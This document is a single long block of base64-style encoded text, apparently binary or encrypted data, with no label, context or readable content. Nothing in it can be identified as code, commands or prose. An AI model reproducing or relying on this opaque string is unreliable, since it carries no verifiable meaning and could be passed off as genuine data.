pSoTl+bfV+sWoDpjw3X/2gRN9i6r+/Z7NE0SIzZN7YOiCkEhi1kDUvXNW603lllRgq+YNE0H+UVCHjdTVvfYWKSd9NOmPwIf5DrFD8bMxZ12kEJI/zjBJGBN/2mIOlJvMNmTub+woiH/arcHLPqFkiSEdhqYaA6cx/WtlD0Y+kUagCUNQ7/Dmy3TaM9TX2lnrg8o1WwFV4gsXVC2CcJz8onRX39s6lhBsg4ZSSG01uoK/55zzFMNEpDWBidpYkjXb8jaZKOv2wsVkBdnBJFRpbNegT3JUb6aueoPHq7KEHuRRqATd8ZmFEBTQWvwT/+RrSz0STV5AR6vEy2ObXCp4Cw5+TE1ZGHvFh4jK+J7ZgLMOih7qo7tUtNpJijbWOVOWyKnKpZ30jyoxBWuzSlskCTjxvKvlsTz0azzU+EWeGZIDHySlQ+lHNvvR6Zdk0FNzFIM/7bzMLbufFx+E/IeB6W6RkwC9jyV0QLtHPiP/PkehOZ0svj1bJHrkN2OTycqdKbsm6nFIeq0P3nBFST7zRf/SA7Y1gjf91LBcIq6KgNvf4K8l5ZPa2df+AkLpkA+fnSOt6u/8HDR/6BZR+QqT6YgDLrgfqI2YNAK4ZVkhmQsyEN7c3m9YvoWI4b601ovXyY7RSkIO9KHb2oD6Z2chWbDUugDWtmG2BAWUBg22BzmrgZajGZa6eEXUGVOi8aEN/9PCy06s52wzK7uCTEgbo/8/EvTU9kLp6H692nnE2F+ha+42UAMncJDqPFzJJ5BPY60+tWO15DVHCUt1RJuCca122zm9kDB2q99NTskNMa0Y4IzquSa7mSxRabhGpxHPiU3yN1jNc9DQyb4el+1U5oFLbgoT2wHhhQTO0/rlRtIQlj552wCAmXOb9j2HbleDG/9rot6c0ZhIB6QdDForgb/1ybXpZ7VG7fDFMaRAC+F7tmZYpoXcXFfm3qXFhoSWzv4iO3AoDBLPrCMVWMPnWqMlFk1MeV/faXrulfHn9MV1+jG/hTLV4UQxMawtYynjNZ1Pgg1Izx58yVxSA1Ot74CQFYnwj7l8T2mZ/7psZ4fQtVetixTZyV/XZsbmRwtxnhOIzqPQYX4ebSyByoZPGKDgnXWTTsxJ1VW9rg8LGxyGBM68YPmbbYz8kYwqoHRHANcxE96BNDcnWL5k0u1nodI5sBg6rpI8DnL4a7dC07hgEabuV1jeoS9dNN14Np3O/7XFNpFYtJrMXcHxcAS/QEEANuYF3JH/9/Z6dfRzVG8a5H982PtV/ppbYh25vPAj+GOPlu8ftWGMf8lykc472aMuxutIxbRO7NKo9vmcSiXqxOjGQc1IcbiPI4TrLk+q5TjysV7OIoKkXZRk/+eHGC5sLiLFyXOy0U1mTWF6FlJEGpvzEnB8HIPS5th+6GDn4SrQFRiKZr9Q+T/uxNZPqUS9NI2IK54cmbXfAyvPKL4dQjWtIHra5WuIczzPJHDHN8Leizu1XJzBLpmMVnwFwWqwvGbElwu/839+OX2Otw7UsIO6KjET40MpjqE+BeDLp/BiWNfJ7zTXhVcgX6+qRKOmCy8bWBDDEo3U5gFrmpQPTdb1B9y+t9BwzA4pyYG4rG1ImgjdLxhGqbQKtQaPT0nFBgiovr2oJ3H2NrVA9VQdJsfni84LyE3yLQdi9rCbpdZO2p+CYtfPPt8i4j0yawruKegA1KBlvpPQlhrgOh7JbjulZRhf1pQpkjlm3HiLVH5D9zrZVsx8139iYOSXI2TCkHN9NO9Auz2Q4JyptkA27c72OqGBTXpUrXvhU1EP6sYKmY+pRtth72v/1L/Yr5JcjjSgRj2qI01IdOkNNpcw4YnAF9yF3oAwufPkvQEtOeU6ixJe6kJvQU0CDMCFB++/eFHbA20XBsVxIy5TBSDUtSUGPz4CYzzHxedKj8lWD8glRYBXY65Wwg3VO/DuKma/z7TCsp+pjUzdVj3WHT3A8VVO3ZJGROBLi7wNUt1Uo1KXwfjmY/w38AWW2uejk/Zj0nkqI8ejEgaZW3dZeqnkq/Vxl1MP8bptrIs/LaLniF4NZE63mRsb2l6U1wT/13AaAkUJVQSqe42e024JF7QTvJ5dyPEdfUrSdXZMtNKq9HP42Y5V0RrW36LALqQvVB2FZzNf3J9A4nxToi8QLDNy+R/gAIJ/3ox2ZABa7+RDu1t4BbRdjuUVArnNGRSXw1dU/Box+TDomvYrSKNb8oZ/dPXuiLpP4Y3q8jzPhHJOWyY3VORoBeR8stQokPDHKyAiwnvJP5SAYLq6S9g3XrwgTLK2LhF4YLnl1h3UxJj5S2lH7FmfsgubAZOcEdLsHd1OOOeslPWau8hPKiLWhy/U3PZ2g1ctP7Bvftj9BZ5iOABlO9+QVhrrPfAg97mz9flmUpXJZyyty/BQlCvaQdLGgllJU//giSeuCvd8T9wkMtI7+ujpRqqMnDrkG2/TURMC8lMa7OXMOLAV0m3xATfEsKMn+h44uwsnndQAdjGMh1vVXemK0ph5LEBUlvgwCI0mDGWUWBfrR3AfjGndQ22H4Hora+rcUgA/Q7Ixu1zR7WoETDzAz8Bkz4WE5Wooj7r5ORa6M8Qf3QPvC74EupU5EEvPLbyQTCrGd4DcizDnjI9TGOOLWSiFH9yGCsH3OQ62bAy/l3HbIubKf9k6zmNpkg2NX3fgrDduC9zVkXyWiGoKY4Htnt8j0QE6GqceSnMVdkVcy0j7jvcpofy0RblqEg4tGz8dfRVqSy3CSrWtSyNFG/u7X5KwlwzIl3q+88wuBGO2L46NrJ1jphutJp8sPq+HxJwWp75Z2NRxhUohS6i9VXOddLzEt8KzzxuQNGVdfSj1EEuufx8wSfAiFhBMyxGLGRyuIlcFplZDoa2Bl2M+rhzKIGs3JS1Ce5h/jn/9EirwegLBkr2/rEi9vWCXehnGvt07rzuwg4v9SAJwnscUfxHNKRtYHpHVJGPzBlTQgmINdszpNbAGYep5+sR0cts1fGZX3hqCebDJzDleoOR82qNJErXKLbvVwA0G2nku7nn4poui+C8Ap1lVauhryO3p9LDAx9ZYrbvHtl4Luqc+7FEFDSuU+xcBV0N6wca9Y9yLt1NrXB3FOMpSLXOtzxFd9e/52Gn5iw+ecsZIAqStd2z2Sv1R6LiPpOnXl17xpr7zq0iZiWY/0jVwiXtdTv2mZKwms9vBpbaPUma3PydWUId5lTzlt+t0rwlkO+HR+11qos9UBaXwI390QPh3aVb12PlOWuqrHS/RyxOWNgEGAC8WQKpi00jWrLqcPX+t9xlJ94VbfYoPPSUzE7tfw+3llvc4Mp1E1S+e85qKlO1gumBzw7lNALlYO329dIf+PtipNbCHsRb/IYNW7wdCxzeVyxmcZYuilyhixkh0PW9WDGFb+Zc2PRihyBtGUVtLXvqJjC1f97P2WnJnOVrO1vW2xqIY1xNjGvYseqFHJa9FFjQQwybArxfr/lNMn5XOZN/rNMI8LzehQIOx08YI39pG/c6lrKz/OYovo/XP/g6TJQULIioskvtHGVtpn7rj+EjEgS3G8Bw/s4T9Fp2XpWWWNY59v0yLmE/tZYD6Ia/GasmEFlcWEIsXFnH0A6KHeVH5Js3OWFDYkZb4DXwtBzE3hD6jyjSeK+Dw4TLsZqhxAqTdYvQJqgKJ0kvl3xGFc+RZPVfBX6kwAHAteT7OcOUkKQdb+7iXP/exVKY/WBHutsOydVct0XCAPTNkIVHCvgLZBWVUklDFB7/TI8apAIZNmTLg0RJn1mxihZVaoIuS8y4WcvTWdzCdavILcuplwyW/KQqrc1UnhelEmDAhcyvR39ws9HAaMQ1NSSDuDMrDWqZWqrEatOkWWQr1P6hA0kRKQL/pl5xyP1AGD4WzDHHqpqMbM96Gu2GYqpgbrisOw96sePxxKhHYHWdbQ64/mMvzJtLuwV321qql5JT8EF6id+U0G9667EX9z5cb9Y5ZUQtasrxz8c/we2ZTP33FzgbPxdKAG8K9p8gGp9pxzNYF10AzfgT3JvNFYt9ORGaPGSOPQ0xR0XawOpWwcSxPMViLA5PoQLmUpyvh1Ho++mSTwPjLJ/NLnjrT1U+vJT1gxxmNPA+5Nu/skyTG+8yqFhNQYaVOsNTvqO7+H/IOLLTt0ZkEHePFfv/miV0vvcncMwlBRUf4ODWy4JfvIpRqdfonYWcJE0+JUQdCjouKxWX5u/E0p/uCkXMi9J+adiJGirZO3axz4NV9k/ijW0EWA6khZcl6/eYhbgZE219qhDseM3JPCxQ9Dtd12K9RKUGSj0IIBQ+z3L+0UdUt/Y4Twyp530C7wOIrnwIN9F3PEeH1ltsD0LP++wAANjAy96JIGm3YbkeQrIAt76MXh0Cqc4bmBs3MhBeO4y3lmrfUINmwYhWi56Kog7vQPMu/sCiE60l9bes7qLihUyHFz6hhBbUv6Bnw4bQ4chJEcEKkYMJS+5c6TYaQlWNVhA9pw31SjwKsRuKjlbc/Y1rwwlV9cvjjiTKbv+75ltMq+K9k9W844/nujPBqjTDx7YFVXnx9SdDzIzleaWh43p5nhAY6LkkICsp6oHo3Hd0TmYluUqx/Hx7i9iZB1vkc46/OFWaheXP6hQYxLm/gkS997KvTY0JFkiEZ2fV8UWqQnzW1/RoeNKddApfyobCwWkecGzOmWG1CAJn8Txwt7GN+TgFuh9ji3LHGaDZzyKpDKiPvCf+VJmSJcgcmX0mbxM5MwF3JXZ/gaBa0zpGrrXJ+Uw0SKFmI+dg/pQUtwZS8Gl0K/0iYKRVqGrcPC2gm/S1nRCBzhaLjbQY/c0+JwXqjzAOM7oQzHyw5DiBq54dDFJw1CCED9F8eeDmHr8K4kjDr7jgAcH+lsy7qzAHWxA/EIFnAUpsX9a2yRBqr/OOIps8kEa+okJ7bCdPXGxVVeGZKL2Z9HWcr6QI2F+b5gtlqBSCu2eWdoqt+29i25XRUQzpFvkDLPOJ4IKNDa3/d5QnjTn+ZFczDcFyr95XiHuIWANweA/8GrDD/hnLrrK3LnvhHnTUpJCdJLHHnTUveBVgQC8Q/ihoa8nNYpPScMPhG1hHSoAG+atJALDAHMyq6yvlj1ExzTwvo5BQ4/mzd8uRveMVfycRQwQgzJtIXWvN/9AhFY7F3VYd2RiPnXGvfLFUlERKYtF6Q3LWpcvbNsaoxInd+hqU1qOm1Gz+Wm0xwr6CMO2/WKb17SNah+L012XBwXHRS8gT2vIfbQUY6PnfJM1TLQ8POHHn/ctV/1FkMeQ6Lej5J5c5yw8o3/n7cZknJVkwFTUy7CyUdHFSLcQ8UcNF7vJcMYGt7ipEPAROxZrGi+5g149v4+1pLgvdzDa8YsR6VUCEfhTavAKD1XJZnurhWEWSIdClCJevUZZb9/aOrLA/rqAC1zefBHttD47gge77q3R0j1Seq3VnLEzDUyrgmjdYQbZCzTw/z0LWAX/ebK3MqJpS9bJXjheSOuFlz46Z5gUuCn/cUBmjS/LYCLT0nj3w7NwGfHInI59Gmsith11keIntCaoQhPBxHQ1CZWZQTRkuSJJfHrzQtYVileHt5WK5DQsGJAPTmneUkdGqsO8sV16+iX5JFd/OIE2FXx1zg7kSQ0RJeDFzNVJc+XWvELsoDkvQilI/3FIYBZ8WlHLS0LoolK+R8BtrFdB/3YbQw/x18rbrktPldIj3BUsrWJTYSHAD9nK4CkbZk+zDS6vpAY3ZC73be3LGnoitRyK0YqOxGvgUWjD37nGcSieVXVyA5wzrPavplOfjQnzPNCJ7nzzOimbVMhZzhMPBBksIvprEzbXsmu3dBy+1b0idmuwjiRYwrbgZ/CGVvya7Uu8zPvZwy0Xa8tuVZGj+Yet2Ev4ICb1tgQlF2m8YSUR/7cZV83UXmTFJ1h+PEO7PwSbrtNM5iyn6O3ApYlp6KxGngUDCYyxMzL7OS8LtK9XhXQVXWBYsahnAnUzhZIkMazf94rdm3RQs2bqZV+m2XCmcfX87GWO+1tB0HU+7E7xPI+RpCPESbybgmjyZNwZJIcJrIF5dDCm768nSTwQgj9iltj0/qj9icOOubG2RCG162H2PUI+kKYAEkOJ2+vbDhDlLi2R775q5FERoY+azPQs2HqZH4UdTr9lzGlkeH02spxzp1pARwNMPr/zoCitFTTxrhXoTqoALbBS4yIRfISzF8WVEtnkAY+4ArdaoSGNGaX9gWIDQp11JL3/yx/KiYXef1VloejCozAQZZTdC/72uRMlt1WBkzs+ero1bcpbty5+41BVfciF+VWMW0hUysro8d8gbgmCliN2a9Up96PQpVPIlbmmGbLNXGoFmsImMWb82uEj/7Vzx9qtEquXS6YAhYlPZWrm+tNScaopwo/nPG78IUcF97RlKXmb+k/zk9fwZQTm41zU8tpbsdmylCHi2PovFKsQVgoOmMbzPy8DWOHr1q1Tc3/YI0E6XDIhz/zXHh11DIPoJs2L+3dm3m/AKfMI0cjQnRctskJGQRcRDXMeB/Q163pkTYsQ1v+6oEsPPC/nZ4TiMwrWQbHcmf42spugrnPAJkuNNvSn5XuU3s92zlBxxM0Oznn1yBDdZf/4Kk1tmAu6DucNcQJXeSnZ3zKcw/GWAoJ/Z2Shr41DkPSBLHMm4nFtToTadnpae8BRl25yWQKUkBESc1P51V3p9zRed/rCyUoOCIO0pRcJQAxQdeBJN7zuyEcF/cCER6bMCSXHTNEPIk7tNReS9ibv+oDMSNvTVuykaSVwFTdpEk7xAljOe+Gj/O8eP/NXv4WKpQfnEbJZvjF3rNJLxH6kXR4BtbPp0Obk38Udy8bXD+dLMaDXcOwAI5sERvq0x5AgY0GtoCBqKNp8I9JBfA3UFaZi1pHThaTtHTFGLOO1iGqzB3Mx9AOY1re7nMnLgNSMS5AeauTrehEIPq4Abb7VTagoAWo7fOFOG54eqhPH/RGEace6FjQvQGbdybq8JkWddKAaSkEEFAbMpo0Arhqxxp6DxA6btU97/3TisSt/obSlOYB94sbyzb0gDJ6qtsZwLBgUR4j5DruEUTdC25qikx0FupBZ5jcdcSMao3cSQlAnsvwegMvqrT1ff/ow3CBFWf83u9Y4fhWPVD7gZFuVPSqCwi+cwpy626M+UI/qYdcOJKE94TK7Ti5napgvpk5LoySAndX+TNHAsuWoJ4Xk/g1n/SGNltJG85H4XSGm4JWN7BQnXhgdleKtXm+z0O0Zs+gvW+rog+EDbiUMt/lreh++FbcEtlY1In6Xgv/71TYnq+lgjwbZxm3ypnLKV5T5C47H52MdrMbCnjaRJyYClqh9QiS/rrvQPlq0SsVUTXDw/ZRl32qm22n9ihCBNVCNh4HjCfVqaz8PFg0Y2idVxnbgwk6BWa/0z7XR68M/ysAxEnkgVk8cbLxXkY/j71zGB49zKFT3xg1t8pVEmP393bNyvD+2zARMIskJTPiww06ltoVPytq+39rZ/IEn/LEWgBIIN2wAYfceZ/jyNBuwC1zu2UXLOGHNA7+rERjxcIOFWj4/6yXqz72Jgo04cxP/5DTZgYCyFL6YoedptWqJV/FFe78bM79dYsiHE7o1xRT567bvTkzQ5RO1uS1SGXZezWREsvyt1I9fo4fB5723XxEapAvbktDVZRB3UBJhLfuYLLl5rO/KgQ8HTHCphPwUUT3BBS1YIScHjIPmKtxgqWsh4zGMuyb97KGlhw+9C5nNqmLHZG8VwZPy5gBPiC44vYfK8NfRvdEyV/Cz30oZRSEFGHw9DxRcXeXPt2Fmo0+Bm9pZadJwKdcxQKzrfZCeQQYhsKxa4C9UJG12DIBkqG2KkdtOwGYVNIwaWrw+5LpQI5jRyidehNfyhnl1j1XTZ4k9dpq9fIRKuxqM6aCSQa4tB77gvFC629YnwDIx2pczYU3dTY/DaqSVZldmsGEHVb+jNhiD95K8CF40zITrbO81s3zfii9iaJUaoqLC9qNmnn0x7DLHR1i3DmYIMlZHkUrMy7Kqb6xtfu8uEs/z4a3onIvqScTO/o3FGeGSYcTbMKCwLWO2lhwViya0vI9+5ZcKpwdZfNgbYKWDdNjAq/liKCMROMUlu+Xy2DJxbkE/WQJtFL1itg3o4XvKRHnGpJAGfI8/RfXJf3MKdJcHMCCRVQgKAKzbNDrjHal/2mJfw1qMrAbibrRfRn02tQyC/YaTA4zmrftmZM3feMD1fwoX4JkP8RRfVbg5e3bXFEbPXBQDUKmE0a2i7Jy/omkjmECY4hYsgUqHv6UcEqcQ93Q2nSUo+iFI7i1+4fTWRHLKYuOnJAKH5CPjT8+Wuuo1dk6dUClU8eTSP6zYudP8wm2HOLU2e/HLCQDHK/DD0me8gwuoe3s9r5jPhcERhVYxoxaSGIV1s3EZleiVtGXAtglpPqSL1vWf0uWrJGdairl2+pxxy/8CWLtbj8SuO4gS6lHZ+aiNV/AHSovxmrVN5spub+GIzUsif0Z8mtXjK7hNPNkQx+LnQBMsPmIZwg37KfIfGSyJBlequrMCQ7kGKde9bceEx5YYd3EYouMf4ry0oovaPO9N/M6Nm81J08tYbfrybYzpU+xq6Xxbjx/2zfIQUuOWdF7Y9ORoJ6iWkUheAc77jboSH7dnMLl4QNVSYrqmZdLWeqo/BJ++9J2qLCN0TgmhCLxWB4DhfsYGVeZG3qIVy+8ft32AHG92PGV2bzJaf/PWFYydp3QbVvZjp5OV3Wy/k6VErir5zlImYE1woJjLx18MY49nqy7vBCV+MSBIFvyRmF7KfId5JkiLZYHhPFdsotFxmJBzvvGCLOnVwZtVMyBj8KkdhXOOAS9daosqswynz6rlAYsgsq/VXTudXTvPQbTl33VJYIh20td2sqzvRc7Exedy4B13EEefYiGRQ2Zzxt09Y6GPGI9DAOz0VIHYfDpEBE+1Q019glET/pCPDg5Zwu87raaTwZL67YQoz8eg4nmvXrtiVNeEilYC9QiM4bpOqtl27H5YYlwZWQiMmwFBNP4QsV87Oq913EXUY4z9nl30kEJjvn2W1jHbZfaPv3ezwHDflMS2R2M+5djcMzDObu05h2OQ6R5AZzVDnxcqCKtKo5oB2aZxklSQAeUr3dxAqSUN8Lipk/ztTejUuqeLt6n/r22dk1gGpGXsShSDTcKcZ02+TOyuRGcfZQCwi2AJfyccW0GqeY6OpFLFEtShlKY7eIRMWc3cysEy36HTqJ8S58axXFwFEwTVFyckkOmjQe2PvXWS9wqsKSXPZtjF6GSsEYvc8gIj8ys3zYdBnyTFD6MEX/cLbvfsQP/r7CTdyFcF9G3uwp442IVJWLl0hlQBhaV/CMUB3ALfHsGxEh91gJIjYnaHOFlLrDIhbEMMebBaFmHT03kO8g9g/SyRu0h1YoBPxS5CipjKdEts+t9YQHFtwHNNIgUdwCXGPRBIC4dEhAIjE8/JUOSE1EesDZtad2xatVGem02UPF0ZzAAVqreEZ026MYjB6Cvq+7TWwNOudvEuGAomR5t0hGzSmqMFkHbAL9XAMZ+SE30L/sEoMKJYTZeNK2iPJxnS6RGDqySp9XVTykbuXpn1l/BKrpm+YZw2wn1R68zBSWsAtcqxnK7rfy2Pg3QF7xz+b9/n2vtGreDHtDFPCJlo2qAgzqMyi9vuO+33x48pSzIpSGz7CqRQdjOWhnhcvYBIQcAUAEFeMbP546gokiy5gWrBGmgTeGXQ6zREfdt+p2jM9g5HDzqspgPC96qs5dPc3vckrtH8/q484JeGV9NJGo2s5MJf0eFUpECVm6P4xyrOEX+OquzC20zlOlnxBOQTXFRQ2io1feidojvIg1IQVBi09FevuiJNKqBtqys32z4ooCJrJRBr6Ttf0VQv1NhpHA+6WUkNh65zKjSd8QvH+WP7DJPW9IVE3Me8MD3JOm4GMBADXcQi+ebvYvdOnkL18JH6WCaDR/rq9UX0tWMtICPSZ96qxHd8cKJSxjak0EIEn94FV5b2a3W3SVPFWGQDEAUPwVmE9Wo7bvcyMlC0HSP6t9o4gfHDQ4VuXpjtJpuk8/+qi3KsHBRTqTKG7ZknVdSfY5t2aWbM5J6pVvYhmpTAOavmX1W5oCNSvmrONfZcjeWfoIiTZAw8VyLqM2aWGeMFVYWgDLH/W0z74n5wSBuOjSUOJH/p+OKfr1Ldv8PUo+3bOZU/3BjR6qf/u3cNvHl8ghBg5mNyE98EH3n4VuMJVJhD4oTVLCIstCVv6Ket4hilw7EqWC4bhzRUtUDPur+Hg6Nn4VOV/wf4Ut/psomFcTwrZiUiAjolJ3/Wg34rGmVbR1f+wAQDSLkeN3NtH9pDphIw0HBKbsRu59x9S5ZT0Z+ECVjn1R9Q+mSla62JbG9bQMvYh3uHMYZnyRktQqFoCAEcpt88FQaaN4XyXDR6gIVdPNT7zbVfqoa9VuNjGx6zovRVaXixpVjMXvVPDkEroegddcFzRXnEkVBSPgDBOw8gq7V9MN5BROb5WIKKTieC28KfyFqSPwG7DmJqS65NifdzwJ1gwmewESqoX0ZyhaWnNF4xDBle8e90jy6vhevx4R+6XSnLKMEMQVgDIVU+6ZZwc8HPF7uf5BP8q2UYqPNV7AkVM3QzUes5DzAbAYJ7HhnJqc49SgeCo3WQOl7NO6xQLPnuaNtoTLoY9/girJ7+N3bucxOnwNYCVeE8Louuc6+LqFF9+pwYTrALcnAVdquKsMbdijDk+MYrU90y0TE5XZ3wVrr/nwQ0gyv+9O3s8OMlE44j8HElLBWQs01qUkDENvtyBW9Jl5AgBAUN+fEKI7eCfeRoWVi172Po1WZey38LsKoa2RWIMuYxFagFdVhhXCkAl7tHKid0NJqxlUQ7lYqpWojm0k3rVnq/QUWh0RHZtv0F1CfVmUTG0mBRdd7vdI+XdnUq8sMsrTpVWu3a8mMQqMVgU4TUl8faUmOHnDShZIJTxD9z58KnxCrV1r3+ZOXpWH9A7XbxTQ+/DKH9SRzixIabjiGN+DaiclCP5KSHghXtoanr4+NdIXVE+FJkNoJ2k+O5HDvFFFffvfTq29uY0Kt3RMgZaU4OpYwxXFU9Q4Z5fqMszReqWRE99mHCk8dacPR8LCHo4zFMi7VJe+QP+ibK7l4MdW6Q9ClYYfWJK4CTGH+rJAUvQf/juSFDFBoIsG+BWD80b88Gufhh+MtZD/ocwhV9Bm4Bgr6mUOU9Lqxzdc5QKasOQ3DKXCLlfK/zpKml0l2XQ/iZkzO3sSzpfOPnpQ+zf0nBMB4Fxmn1QVelWOC3rfz3TuDyJrDGLziOyWyn6mbvQ5f4vHiGCOpf8EvGJIAzCQJBSvN7uAgc8D/iZGPUHfl86LOyBM4v8BfLT2W2RBi2m9zhjhkU1jgHxBtMqUcYTONMzJS5LwC7DL1/OKOG9jUpuqeRyceiRXArJ2koyCtFAPA6d5b2urMLDCGx3bPzLX6YP6cwwt9fJdjE7RjmO0rMU/aKM4Ny87Frw/d3Up93RBeYLKTwvd7EwmrI+LoVsXCFjxFTHyIsTi8YQQLA6xQyJvH7qHsrjAL8Aq2T7dzp6COXt585vW+dlVyme2SMTAmrMMwN8rDc1h2GrhWkqE2PionBoN4koMVhNOVEkC/9kQiBbR1WV/iKnq9qhfEicUKjqLnVxZKO7dGrJ1shjjHW+ToYDx8ldrnSosOETWZfNcUieS/rA1h8J+ctHewrEDsV6rQy/PWCwg9q08NR6YU2xN82fjZnrtRKsxhV5Lh7koDR0zyeISH+qbawB+djePuZcsiBAzvOTLc+6c6fxHC1v8YBZgRqnp/VVB4xK0QrWP+4SbRyunL7eAg2fD9dHepXeB49KSDWTD+HjSfLkfW8PZdgT7SUDHwfC6PV+C15UPdFQqzLHHcA8Ur3jdezsXfCmh2ZwpxjBfaJlXMalFSKy3hyi8vkfZd6eHqVgaScYyA/8l23uirYWbXoHjQDhUOzsW0xLeNlv37fYdsAqzerd8d0DEYgIIxeyt5zGbwIkDFOD8aK3kr4eoeq9KQAjl/KY1BGUF7r5u2oE6LGJwJURZlC2f4KbVIqrDt3EbFpGXtnO5t45TUL2LgGocLeAyk96rkbI+jYrQsK6LKT7P+8tcVxW1IDAxfT9L51CzETb8npY+lhPffSdjAeejCj9aoyzNqJB2UnVGRjbUmjjB6KByDSad9oXen7DiW7bMDNiVgiE5n1H9krvzd3qOpyfHknWGAe7bFEeTcdOBmrlTa2yLksZQYCLmmAFCNWYrH3L4rbDbHwHjgvAAOkctlhEQotV3b4TBQ7AqLA5O9ZbcfLQIxumGQB6D+rcwMRukrRN7P6BdI6HGrCHUtM3XvsGHDI1JJ09Bb07Hz6evJgtgiXQ8nxS08U4EP20Djpp4q7H21XcZcrnaYa4xUpZXG2qvKYdDP88NLJt+iEYDeZ+gg+8fYzx/AVJwB+8RSyjHk+UpHfhLsE23J1rJrmNL5t+keC9zcb4STcnCrBnam+FZbcFURnbgHieI6G1/IIqy9YvGdCif18fcDFLx33vtfJ5obY43CmP+Qy9HCK7hgWXcyZW9mOcS0uqSf1Jbn9uh1QJmZpGg9AvwN5xkWdFTXYCDMSWtDV08kSonIVNrK+rB3ymOxqI2SyMRpdMwK9exM481eSHeARlOc3IPFcVzNBbZIyRTYLtKOzrZ7PyP5AbfFgTXsmTV9+hvx2qqEPUgYDYkpXWVrdk5e11yb5YD4sWvYnKmBD0SQ2LeBr6tlmY9FcFIdp85il/LNjIqJzDN++qv/CzOnnIwdb6kamsPPBTmK29Jt+uogJ9O5/azBIuQK4zcBzeBHMfCG/8zHF5rR0RaZiD+Psg1e317xu9dD/ZJ3dUwZGg3F+NE47PbNRhWZRf9lYf1xSZGYoJXtc00qz13aKVcqsAu5Cm2TyGQiMEFzZ1Z6b0mvr//YaZ8SLdp+UIf5AnmPlNERnXomOxrLuTazIyREP5UJjcXZ3HPBwVLk7lY0oquGd00AJolbp9WBsyAu8g1ZruNd2kEuWy8GQ/sAaA8Zyzavkifpcvx5hEsGRzu6tv/RTPLgMeCzKHf6Mzvq7C68BExH/PuIC6YiWymFfvDJ4VqG6dCNrNLPHB+8JyQBkPhzM5gch4z+C/GwcHu35h9QAVwCaqXI6EF6M7a0n5P3HOCv4+wBvAZjNrsnoDM2bxPt0kfZO0mxFAoaUq2O7JQexrvVuRhaJUrbAnMg0IRariVE6baFI/OSDzsiHTJ4xcjxf1VMGbTSlcb9obXJGOuIdUxJ1afmOQIN6wXanVm+vA7eVyIg37UZSbwGle8SAMwloe3rjtEiopDs8K9fDinqIRj5haMklAvc6tS9l+5TFW/BJ+TUhU66Lwu35LG8I4RO3vyZbHL9ERmvJGX0VCQIR9kBiDf0ZZJmstTV9V74TM4UxqaeYtXficwMybcKG/Mcawp49knBKomIhG0vUxVGZ6T6pMSliWJufX/7G50W6woTu1cOpIBJdJJp3VLzPNUJs0Uq19DE1CqZpi+8/QSm7jyWxhjpxVmnmjCyQci2o+ftN6gFaUMv7rmcOsnq72VyjIuBIQEJN/l4oWPSPXNXDEk/u+yNw/yCfKTevfPyegMSHM1nMzvaW/+I8fYrTbZxPhR2cSt2nhl2Q/BitAKdWX8T/GA3ertwX1V0355hOcqmlNv1Ip4Ke+da1Wkb5m9qtg/XJyki8z0Hq/uxXZkyyMspL0icmgdTJDh5jS7IwIsWQa/LGKbXmOOb3GMLF3YBvpLFyin2CwrvJi8XwuV0ffk5E4CCL/8YumPtIDe098ENlWVKimo+ls746+zrjXLiRMqZIn6ntadjXcgIr8qGau2WH02+BkBJZSmIg0y0T8plaYqcUUCCiOi3gReRha+bRRV00sGloq2hCaGSYVhtcpJzVwiGMtqHjLWsuKIDb+0BRHgWqgprrJWhXqUwjegrs04cRvJrtLzSiL7i+xX7/PIFikeG8A3exRP7nbNIYh2Oor+N/AysIOYp/KUBvowZ9+8zBDvmxi7ZADPuu+YrDfvDp5+HQG0Adn0dNc7AyH4BPCkcwL0xgid2pZpQ/s4el45u0suc3ZXH/E+fnG2nJ0xY60+YlVFo6meSv8AadFIn0d7wc630iX2r52sZnyt7skz+JOpRjFJZ4vf/hnC/0DW6bg+QsndKByEv5zwXFiqAV7/2p5FPgn0ShldCowFk8DesVYWNCT1lQIYYahC16dI0m35NlSfBQ694onBlj04jvPbB+dAi9pyZ589bDMdhiJAwrjs5EbVbPMkTyYjpnhD8s/r9AunwxQBmQ6HzNJlPtmzdRIYffr+odSB3hij7uRiGjp7NWlu0REXLdgbxh8fMV4SlzxaRb0nnTcS3ZjtGyIxlQ18cJT/pcbC+NY8VtGlyG27plT/Bbmjs90L38opLK6wLlP734LEeQ3jThS3kRWfyL1QefMcS8heEc4WeqrqZ4TsHWNvoeIBEMEruVNfYkZqbLlHaeOmT57DYRTMTqIc1hzz0DurQRoQBzIEuOup+F9nJAYCsoDEeIbIK41YPNzEk0TumjdNBq/zbU/gCm3DxBWZuEv2B97BCkhbHaV60xx2ZOAtu+RpuWRix/yHV4v82DBeeXRPZPnXynvtgIcK8gSXMbPcPOIUg+BkN+n0ohMfU43Hddfj65lHxJIOySpR90EfJ0cLspH/poaKo0TP5T9+vq2Z5P8SrVqisFGDX30AN0+sN0n2MvT/c5m4jWYGovLV4ODYLcJa/Kuon33X1/JWzM34RzdLj6xYOSFKzIdriiPYa7D1OpxPv86gRg/5gnsKNNRc2SQnoJY+ZhYtR/W7WZsa39s1AA71giCXdUThPXMGBE+JUzSUL73bfgIJeJ1VNe14oMSik9W40O+mF07yPH0iXImymPFD185JaKtp8JcEPVpyQIFDxpGVFDSoEjTLIIx5qVkrIeafbM7OLypplRF8zT5d0H/Bvc3wPKc2EtuMMuVB0wd3TWXFHg9oKEepBOwidKqZJ842UeIlpISnwWnL7CqBiorLRb6HCU4Lazai6IQLosAESrwsY8dE7yMsfBZaaqF84WTRysKGl9HEknYcU8RpdC7x3JLDkjuxpK3J7ZrHHb8glJo/osx8aLgBURtcTPD9ghhcXq8LGD/dvaRlk9hE6y7Y5IkEziwV3HSnh4PueH0bRJboVoG9jzyLEcOO7KtOwZdvL6VV4APBE+ICIs2E9gPN8MyVIEZ6kiv6TTO7uI/EDykpOI7Aqj3fhkeR0KBGxEt2dzQV6d89TiM9Om++Z6ZmBbGxBrybGPfv0ecJKtnWDAzyq1b7CPoaRRei3G/XGuXYJDhQq3d7ebMm69oYeGFNbYlisnfPRFUbv8KrjGKpPEWvkQEm+SV9N3IJd5LbypjkC7+3G/tzDXNO4YHXrm9V2UIEAY87AuTvcwfofjSppCKhLMhc+Q8a68pYHjxjnw8MXfTqy8hC8JxLPjq4WbQnq6vLFQmhL8yBFMnBqd3+xNxpXn72XBeZ0eRypWRl7C7RFzooLcTvFEvQf8jvkmKwOQ61/wRrAk7BecJ3wM6Dn3+OZMQ29nzRoDi5HZSvUDCxU9D6v72jYUIN9Ng0Fk6vSqAGk/K73qKqrvqDr0qT/K1hXNyHbziA/65vKeZnIsEyoXlhybh50KvL4UpLMiOPrHrCZq9yXFM/+aWNu/Zk9xlcS5BwFpfhe8vemcF3g66QgQJ2ru